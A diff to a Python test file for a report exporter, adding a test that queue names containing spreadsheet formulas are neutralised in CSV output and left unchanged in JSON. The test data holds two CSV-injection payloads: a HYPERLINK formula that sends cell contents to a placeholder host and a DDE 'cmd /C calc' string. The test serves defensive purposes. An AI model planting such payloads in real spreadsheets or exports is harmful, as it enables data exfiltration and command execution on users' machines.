@@ -3,6 +3,9 @@ splits, and re-runs."""
 
 from __future__ import annotations
 
+import csv
+import dataclasses
+import io
 import os
 import subprocess
 import sys
@@ -171,6 +174,31 @@ async def test_windows_refused_as_too_large_are_split(connect: Connect, tmp_path
     csv = [path.read_bytes() for f, path in outcome.files if f.format == "csv"]
     csv_expected = [path.read_bytes() for f, path in expected.files if f.format == "csv"]
     assert csv == csv_expected and csv[0].count(b"\n") > 2
+
+
+async def test_names_that_are_formulas_are_text_in_the_csv_and_unchanged_in_the_json(
+    connect: Connect, tmp_path: Path
+) -> None:
+    connected = await connect(sandbox={"volume": {"peak_per_hour": 60}})
+    org = connected.sandbox.org
+    hostile = [
+        '=HYPERLINK("http://x/?"&B3,"ok")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ]
+    renamed = tuple(
+        dataclasses.replace(queue, name=hostile[n % 2]) for n, queue in enumerate(org.queues)
+    )
+    connected.sandbox.org = dataclasses.replace(org, queues=renamed)
+    settings = _settings(tmp_path, formats=["csv", "json"])
+    outcome = await run_report(settings, settings.reports[0], PERIOD, connected.client)
+
+    by_format = {f.format: path for f, path in outcome.files}
+    table = list(csv.DictReader(io.StringIO(by_format["csv"].read_text(), newline="")))
+    served = {queue.id for queue in renamed}  # deleted queues are named by their id
+    names = {row["queue_name"] for row in table if row["queue_id"] in served}
+    assert names == {"'" + text for text in hostile}
+    rows = orjson.loads(by_format["json"].read_bytes())["rows"]
+    assert {row["queue_name"] for row in rows if row["queue_id"] in served} == set(hostile)
 
 
 async def test_jobs_and_queries_give_the_same_report(connect: Connect, tmp_path: Path) -> None:
